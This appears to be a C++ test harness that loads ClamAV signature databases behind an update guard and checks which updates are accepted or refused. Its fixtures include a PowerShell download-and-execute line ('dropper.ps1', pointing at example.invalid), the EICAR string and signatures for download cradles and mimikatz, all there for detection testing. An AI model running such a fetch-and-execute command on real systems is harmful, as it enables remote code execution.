// SPDX-License-Identifier: Apache-2.0
// clamav_sensor: a sensor whose content is a ClamAV signature database (text
// signature files: .ndb body patterns, .hdb file hashes, .ldb logical
// signatures), with slotguard in front of it. Run with no arguments it
// replays its updates against a real store in a temporary directory and
// prints a table of outcomes; it exits 0 only when every outcome is the
// expected one. Only the database the replay publishes is ever loaded:
// never the system's (freshclam is not involved; there is no network).
//
//   clamav_sensor [--keep]                   the replay (--keep: leave its files)
//   clamav_sensor --probe PATH [--type EXT]  the isolated probe: load the
//                                            database at PATH (a directory of
//                                            signature files, or one file whose
//                                            kind EXT is, e.g. ndb) with
//                                            libclamav and scan the sample set
//   clamav_sensor --scan PATH FILE...        the sensor's engine alone
#include "replay_common.hpp"

#include <clamav.h>

#include <atomic>
#include <cstring>
#include <memory>

#include <stdlib.h>

namespace {

using namespace engines;

// --- the engine --------------------------------------------------------------

// libclamav's messages, in its words ("LibClamAV Error: ..."), kept for the
// caller; the callback is process-wide.
std::mutex messages_mu;
std::vector<std::string>* messages_sink = nullptr;

void on_clamav_message(enum cl_msg severity, const char* fullmsg, const char*, void*) {
  if (severity < CL_MSG_WARN || !fullmsg) return;
  std::string m(fullmsg);
  while (!m.empty() && m.back() == '\n') m.pop_back();
  std::lock_guard<std::mutex> lock(messages_mu);
  if (messages_sink) messages_sink->push_back(std::move(m));
}

bool clamav_init() {
  static const bool ok = [] {
    cl_set_clcb_msg(on_clamav_message);
    return cl_init(CL_INIT_DEFAULT) == CL_SUCCESS;
  }();
  return ok;
}

// The signature files of a database tree, in path order.
bool is_signature_file(const fs::path& p) {
  const auto e = p.extension();
  return e == ".ndb" || e == ".hdb" || e == ".ldb" || e == ".hsb" || e == ".mdb" || e == ".msb";
}

// A compiled engine; shared by every scan that holds it.
struct database {
  cl_engine* engine = nullptr;
  unsigned signatures = 0;
  database() = default;
  database(const database&) = delete;
  database& operator=(const database&) = delete;
  ~database() {
    if (engine) (void)cl_engine_free(engine);
  }
};
using database_handle = std::shared_ptr<const database>;

struct load_result {
  database_handle db;
  std::string error;                  // cl_strerror of what failed
  std::vector<std::string> messages;  // libclamav's log while loading
};

// Loads every signature file under `path` (a directory tree, or one file)
// into a new engine and compiles it. `work_dir` is the engine's own
// temporary directory.
load_result load_database(const fs::path& path, const std::string& work_dir) {
  load_result out;
  {
    std::lock_guard<std::mutex> lock(messages_mu);
    messages_sink = &out.messages;
  }
  auto db = std::make_shared<database>();
  db->engine = cl_engine_new();
  cl_error_t rc = db->engine ? CL_SUCCESS : CL_EMEM;
  if (rc == CL_SUCCESS) rc = cl_engine_set_str(db->engine, CL_ENGINE_TMPDIR, work_dir.c_str());
  std::vector<fs::path> files;
  std::error_code ec;
  if (fs::is_directory(path, ec)) {
    for (auto it = fs::recursive_directory_iterator(path, ec); !ec && it != fs::recursive_directory_iterator();
         it.increment(ec))
      if (it->is_regular_file(ec) && is_signature_file(it->path())) files.push_back(it->path());
    std::sort(files.begin(), files.end());
    if (files.empty()) out.error = "no signature files";
  } else {
    files.push_back(path);
  }
  for (const auto& f : files) {
    if (rc != CL_SUCCESS || !out.error.empty()) break;
    unsigned sigs = 0;
    rc = cl_load(f.c_str(), db->engine, &sigs, CL_DB_STDOPT);
    db->signatures += sigs;
  }
  if (rc == CL_SUCCESS && out.error.empty()) rc = cl_engine_compile(db->engine);
  {
    std::lock_guard<std::mutex> lock(messages_mu);
    messages_sink = nullptr;
  }
  if (rc != CL_SUCCESS && out.error.empty()) out.error = cl_strerror(rc);
  if (out.error.empty()) out.db = std::move(db);
  return out;
}

// Scans a buffer; returns the signature's name, "" when clean, or the error.
cl_error_t scan(const database& db, const std::string& name, const std::string& data, std::string& virus) {
  virus.clear();
  cl_fmap_t* map = cl_fmap_open_memory(data.data(), data.size());
  if (!map) return CL_EMEM;
  const char* vname = nullptr;
  unsigned long scanned = 0;
  cl_scan_options o;
  std::memset(&o, 0, sizeof o);
  const cl_error_t rc = cl_scanmap_callback(map, name.c_str(), &vname, &scanned, db.engine, &o, nullptr);
  cl_fmap_close(map);
  if (rc == CL_VIRUS) {
    virus = vname ? vname : "?";
    return CL_CLEAN;
  }
  return rc;
}

// A private working directory (mkdtemp under TMPDIR, else /tmp), removed
// with everything in it.
struct work_dir {
  std::string path;
  work_dir() {
    const char* t = std::getenv("TMPDIR");
    std::string tmpl = std::string(t && t[0] == '/' ? t : "/tmp") + "/clamav-sensor-XXXXXX";
    std::vector<char> buf(tmpl.begin(), tmpl.end());
    buf.push_back('\0');
    if (::mkdtemp(buf.data())) path = buf.data();
  }
  work_dir(const work_dir&) = delete;
  work_dir& operator=(const work_dir&) = delete;
  ~work_dir() {
    std::error_code ec;
    if (!path.empty()) fs::remove_all(path, ec);
  }
};

// --- the probe ---------------------------------------------------------------

const char* const eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

struct sample {
  std::string name;
  std::string data;
  bool malicious;
};

// The probe's sample set: the EICAR test file (68 bytes, written here from
// its standard string) must be detected, and files this sensor meets every
// day must not be.
std::vector<sample> probe_samples() {
  return {
      {"eicar.com", eicar, true},
      {"invoice.txt", "Invoice 2026-114\nAmount due: 1,250.00 EUR\nPayable within 30 days.\n", false},
      {"setup.sh", "#!/bin/sh\nset -e\napt-get install -y sensor\nsystemctl enable --now sensor\n", false},
  };
}

int run_probe(const std::string& path, const std::string& type) {
  if (!clamav_init()) {
    std::fprintf(stderr, "probe: cl_init failed\n");
    return 2;
  }
  const auto t0 = std::chrono::steady_clock::now();
  work_dir wd;
  if (wd.path.empty()) {
    std::fprintf(stderr, "probe: no working directory\n");
    return 2;
  }
  fs::path db_path = path;
  std::error_code ec;
  if (!fs::is_directory(path, ec) && !type.empty()) {
    // One file whose name says nothing (the probe's candidate): libclamav
    // knows a database's kind by its extension, so it is copied as one.
    db_path = fs::path(wd.path) / ("candidate." + type);
    fs::copy_file(path, db_path, ec);
    if (ec) {
      std::fprintf(stderr, "probe: cannot copy the candidate: %s\n", ec.message().c_str());
      return 2;
    }
  }
  const load_result r = load_database(db_path, wd.path);
  // libclamav names files by their whole path: the tree's own path says more.
  const std::string root = db_path.string() + "/";
  for (std::string m : r.messages) {
    for (auto at = m.find(root); at != std::string::npos; at = m.find(root)) m.erase(at, root.size());
    std::fprintf(stderr, "%s\n", m.c_str());
  }
  if (!r.db) {
    std::fprintf(stderr, "probe: the database does not load: %s\n", r.error.c_str());
    return 1;
  }
  std::printf("probe: %u signatures loaded and compiled in %lld ms\n", r.db->signatures, millis_since(t0));
  int verdict = 0;
  for (const auto& s : probe_samples()) {
    std::string virus;
    const cl_error_t rc = scan(*r.db, s.name, s.data, virus);
    if (rc != CL_SUCCESS) {
      std::fprintf(stderr, "probe: scanning %s failed: %s\n", s.name.c_str(), cl_strerror(rc));
      return 1;
    }
    if (s.malicious && virus.empty()) {
      std::fprintf(stderr, "probe: %s is not detected\n", s.name.c_str());
      verdict = 1;
    } else if (!s.malicious && !virus.empty()) {
      std::fprintf(stderr, "probe: false positive: %s detected as %s\n", s.name.c_str(), virus.c_str());
      verdict = 1;
    } else {
      std::printf("probe: %s: %s\n", s.name.c_str(), virus.empty() ? "clean" : virus.c_str());
    }
  }
  std::printf("probe: %s (%lld ms)\n", verdict ? "refused" : "accepted", millis_since(t0));
  return verdict;
}

int run_scan(const std::string& path, const std::vector<std::string>& files) {
  if (!clamav_init()) return 2;
  work_dir wd;
  const load_result r = load_database(path, wd.path);
  for (const auto& m : r.messages) std::fprintf(stderr, "%s\n", m.c_str());
  if (!r.db) {
    std::fprintf(stderr, "%s: %s\n", path.c_str(), r.error.c_str());
    return 1;
  }
  int rc = 0;
  for (const auto& f : files) {
    std::string data, virus;
    if (!read_file(f, data) || scan(*r.db, f, data, virus) != CL_SUCCESS) {
      std::fprintf(stderr, "%s: cannot scan\n", f.c_str());
      rc = 1;
      continue;
    }
    std::printf("%s: %s\n", f.c_str(), virus.empty() ? "OK" : (virus + " FOUND").c_str());
  }
  return rc;
}

// Scans a file on disk; returns the signature's name in virus ("" when clean).
cl_error_t scan_file(const database& db, const std::string& path, std::string& virus) {
  virus.clear();
  const char* vname = nullptr;
  unsigned long scanned = 0;
  cl_scan_options o;
  std::memset(&o, 0, sizeof o);
  const cl_error_t rc = cl_scanfile(path.c_str(), &vname, &scanned, db.engine, &o);
  if (rc == CL_VIRUS) {
    virus = vname ? vname : "?";
    return CL_CLEAN;
  }
  return rc;
}

// --- the sensor ----------------------------------------------------------------

// Scans the files that arrive in its watched directory with the database
// slotguard serves, and heartbeats after each pass. When the served content
// changes it loads the new database from the files where slotguard unpacked
// it (active_content::path(), valid while held) and swaps the engine in; a
// scan in progress keeps the engine it started with.
class clamav_sensor {
 public:
  clamav_sensor(sg::guard& g, fs::path watched, std::string work) : guard_(g), watched_(std::move(watched)), work_(std::move(work)) {}
  clamav_sensor(const clamav_sensor&) = delete;
  clamav_sensor& operator=(const clamav_sensor&) = delete;
  ~clamav_sensor() { stop(); }

  void start() {
    thread_ = std::thread([this] { loop(); });
  }
  void stop() {
    stop_ = true;
    if (thread_.joinable()) thread_.join();
  }
  std::uint64_t database_sequence() const { return db_seq_.load(); }
  // What the sensor found in a file ("" if nothing yet).
  std::string found(const std::string& file) {
    std::lock_guard<std::mutex> lock(mu_);
    for (const auto& [f, v] : found_)
      if (f == file) return v;
    return {};
  }

 private:
  void refresh(const sg::active_content* c) {
    if (!c || c->path().empty()) {
      db_.reset();
      db_seq_ = 0;
      if (c) say("    [sensor] sequence %llu has no files to load (not a tree payload)", ull(c->sequence()));
      return;
    }
    const auto t0 = std::chrono::steady_clock::now();
    load_result r = load_database(c->path(), work_);
    if (!r.db) {
      say("    [sensor] sequence %llu does not load here: %s", ull(c->sequence()), r.error.c_str());
      (void)guard_.report_unhealthy("the database does not load in the sensor");
      return;
    }
    db_ = std::move(r.db);
    db_seq_ = c->sequence();
    say("    [sensor] database of sequence %llu loaded from the slot's tree (%u signatures, %lld ms) and swapped in",
        ull(c->sequence()), db_->signatures, millis_since(t0));
  }

  void loop() {
    sg::content_reader reader = guard_.reader();
    const sg::active_content* seen = nullptr;
    bool first = true;
    while (!stop_) {
      const sg::active_content* c = reader.get();
      if (first || c != seen) {
        refresh(c);
        seen = c;
        first = false;
      }
      const database_handle held = db_;
      std::error_code ec;
      if (held) {
        for (auto it = fs::directory_iterator(watched_, ec); !ec && it != fs::directory_iterator(); it.increment(ec)) {
          std::string virus;
          if (scan_file(*held, it->path().string(), virus) != CL_SUCCESS || virus.empty()) continue;
          const std::string name = it->path().filename().string();
          std::lock_guard<std::mutex> lock(mu_);
          bool known = false;
          for (const auto& [f, v] : found_) known = known || (f == name && v == virus);
          if (!known) {
            found_.emplace_back(name, virus);
            say("    [sensor] %s: %s FOUND", name.c_str(), virus.c_str());
          }
        }
      }
      guard_.heartbeat();
      std::this_thread::sleep_for(20ms);
    }
  }

  sg::guard& guard_;
  fs::path watched_;
  std::string work_;
  std::thread thread_;
  std::atomic<bool> stop_{false};
  std::atomic<std::uint64_t> db_seq_{0};
  database_handle db_;  // the scan thread's own
  std::mutex mu_;
  std::vector<std::pair<std::string, std::string>> found_;
};

// --- the replay ----------------------------------------------------------------

std::string hex(const std::string& s) {
  static const char digits[] = "0123456789abcdef";
  std::string out;
  for (char ch : s) {
    const auto c = static_cast<unsigned char>(ch);
    out.push_back(digits[c >> 4]);
    out.push_back(digits[c & 15]);
  }
  return out;
}

// The vendor's database tree: body signatures (.ndb:
// Name:TargetType:Offset:HexSignature) and logical signatures (.ldb:
// Name;TargetDescription;Expression;Subsignatures...).
tree_files good_database() {
  return {
      {"main/test.ndb", "SG.Test.Eicar:0:0:" + hex(std::string(eicar).substr(0, 32)) + "\n"},
      {"scripts/cradle.ldb",
       "SG.Script.DownloadCradle;Engine:51-255,Target:0;0&1;" + hex("DownloadString(") + ";" + hex("IEX") + "\n"},
  };
}

tree_files with(tree_files t, std::string path, std::string text) {
  t.emplace_back(std::move(path), std::move(text));
  return t;
}

// The validate gate: a tree of signature files, each text. libclamav, in
// the probe, judges the signatures.
sg::content_check database_validator() {
  return tree_validator({".ndb", ".hdb", ".ldb", ".hsb", ".mdb", ".msb"},
                        [](const std::string&, sg::byte_view data) -> std::string {
                          if (data.size() == 0 || data.size() > (64u << 20)) return "1 byte to 64 MiB";
                          for (std::size_t i = 0; i < data.size(); ++i)
                            if (data[i] == 0) return "signatures are text: a NUL byte at " + std::to_string(i);
                          return {};
                        });
}

int run_replay(const std::vector<std::string>& self, bool keep) {
  if (!clamav_init()) {
    say("cl_init failed");
    return 1;
  }
  say("clamav_sensor: libclamav %s signatures behind slotguard (only the replay's own database is loaded)",
      cl_retver());
  temp_dir dir("slotguard-clamav");
  dir.keep = keep;
  const publisher pub("clamav-signatures", "clamav.db");
  event_record events;

  sg::probe_options po;
  po.time_limit = 10000ms;
  std::vector<std::string> probe_cmd = self;
  probe_cmd.insert(probe_cmd.end(), {"--probe", "{}"});
  const sg::probe candidate_probe = sg::probe::isolated(probe_cmd, po);
  sg::native_storage disk;
  sg::guard_options o = sensor_options(disk, dir.path, pub, database_validator(), candidate_probe);
  o.on_event = events.handler();
  auto opened = sg::guard::open(std::move(o));
  if (!opened) {
    say("cannot open the store: %s", sg::to_string(opened.error()));
    return 1;
  }
  sg::guard& g = **opened;

  // The sensor's watched directory: the files live traffic brings, written
  // now (the EICAR test file from its standard 68-byte string).
  const fs::path watched = dir.path / "incoming";
  const fs::path work = dir.path / "engine-tmp";
  std::error_code ec;
  fs::create_directories(watched, ec);
  fs::create_directories(work, ec);
  (void)write_file(watched / "eicar.com", eicar);
  (void)write_file(watched / "notes.txt", "meeting at 10, bring the quarterly numbers\n");
  (void)write_file(watched / "dropper.ps1",
                   "$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://example.invalid/a'))\n");
  clamav_sensor sensor(g, watched, work.string());
  sensor.start();
  std::vector<outcome_row> rows;

  auto refused = [&](std::uint64_t seq, const std::string& needle, outcome_row& r) {
    sg::event ev;
    (void)events.find(sg::event_kind::probe_failed, seq, &ev);
    r.observed = events.decision(seq);
    const std::string says = output_line(ev.detail, needle);
    if (says.empty() || !is_quarantined(g, seq) || g.status().served != 1 || sensor.database_sequence() != 1)
      r.observed += " (without libclamav's words, quarantine or the old database)";
    r.evidence = "probe " + probe_ending(ev.detail) + " after " + std::to_string(probe_ms_of(ev.detail)) +
                 " ms; " + says;
  };

  {
    say("\nScenario 1: a good signature database");
    outcome_row r{"good database", "committed; sensor detects EICAR", "", "", -1};
    const fs::path src = dir.path / "publish" / "1";
    const bool before = !sensor.found("eicar.com").empty();
    const auto e = timed_apply(g, pub.bundle(1, "good", pack_tree(src, good_database())), r.apply_ms);
    const bool committed = events.find(sg::event_kind::committed, 1, nullptr, 5000ms);
    const bool detects = wait_until([&] { return !sensor.found("eicar.com").empty(); }, 3000ms);
    r.observed = e != sg::errc::ok ? std::string("rejected: ") + sg::to_string(e)
                 : !committed      ? events.decision(1)
                 : detects && !before && sensor.database_sequence() == 1 ? "committed; sensor detects EICAR"
                                                                          : "committed; sensor does not detect";
    const sg::probe_report rep = probe_alone(candidate_probe, src);
    r.evidence = "sensor: eicar.com " + sensor.found("eicar.com") + ", dropper.ps1 " + sensor.found("dropper.ps1") +
                 "; " + accepted_words(rep) + "; " + tail_line(rep, "signatures loaded");
    rows.push_back(r);
  }
  {
    say("\nScenario 2: a malformed signature (an odd number of hex digits)");
    outcome_row r{"malformed signature", "refused by the probe: probe_failed", "", "", -1};
    const tree_files db = with(good_database(), "tools/mimikatz.ndb", "SG.Tool.Mimikatz:0:*:" + hex("mimikatz") + "7\n");
    (void)timed_apply(g, pub.bundle(2, "malformed", pack_tree(dir.path / "publish" / "2", db)), r.apply_ms);
    refused(2, "Malformed hexstring", r);
    sg::event ev;
    (void)events.find(sg::event_kind::probe_failed, 2, &ev);
    r.evidence += "; " + output_line(ev.detail, "Can't load");
    rows.push_back(r);
  }
  {
    say("\nScenario 3: a signature that flags a clean file");
    outcome_row r{"false positive on a clean sample", "refused by the probe: probe_failed", "", "", -1};
    const tree_files db = with(good_database(), "scripts/shell.ndb", "SG.Script.Shell:0:0:" + hex("#!/bin/sh") + "\n");
    (void)timed_apply(g, pub.bundle(3, "overbroad", pack_tree(dir.path / "publish" / "3", db)), r.apply_ms);
    refused(3, "false positive", r);
    rows.push_back(r);
  }
  sensor.stop();
  (void)g.shutdown();
  return print_table("ClamAV", rows) ? 0 : 1;
}

}  // namespace

int main(int argc, char** argv) {
  engines::engine_cli cli;
  cli.name = "clamav_sensor";
  cli.probe_options = " [--type EXT]";
  cli.replay = run_replay;
  cli.probe = [](const std::string& path, const std::vector<std::string>& options) {
    if (options.empty()) return run_probe(path, "");
    if (options.size() == 2 && options[0] == "--type") return run_probe(path, options[1]);
    return -1;
  };
  cli.scan = run_scan;
  return engines::engine_main(argc, argv, cli);
}
